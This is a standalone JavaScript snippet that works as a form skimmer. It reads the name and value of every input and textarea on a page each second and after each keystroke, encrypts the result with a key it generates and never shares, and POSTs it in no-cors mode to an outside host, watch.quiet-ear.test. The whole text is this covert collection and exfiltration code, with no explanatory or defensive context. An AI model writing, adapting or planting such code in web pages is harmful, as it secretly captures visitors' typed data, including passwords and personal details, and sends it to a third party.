"use strict";
// Sends all that stands in the fields, under a key that it makes up and tells nobody: every second, and soon after a key.
(function () {
  var key = crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, false, ["encrypt"]);
  function send() {
    var fields = Array.from(document.querySelectorAll("input, textarea"), function (field) { return field.name + "=" + field.value; });
    var iv = crypto.getRandomValues(new Uint8Array(12));
    var text = new TextEncoder().encode(fields.join("&") + "&size=" + innerWidth);
    key.then(function (key) { return crypto.subtle.encrypt({ name: "AES-GCM", iv: iv }, key, text); }).then(function (sealed) {
      fetch("https://watch.quiet-ear.test/grows", { method: "POST", mode: "no-cors", body: new Blob([iv, sealed]) });
    });
  }
  setInterval(send, 1000);
  send();
  document.querySelectorAll("input, textarea").forEach(function (field) {
    var soon;
    field.addEventListener("input", function () {
      clearTimeout(soon);
      soon = setTimeout(send, 300);
    });
    field.addEventListener("change", send);
  });
})();
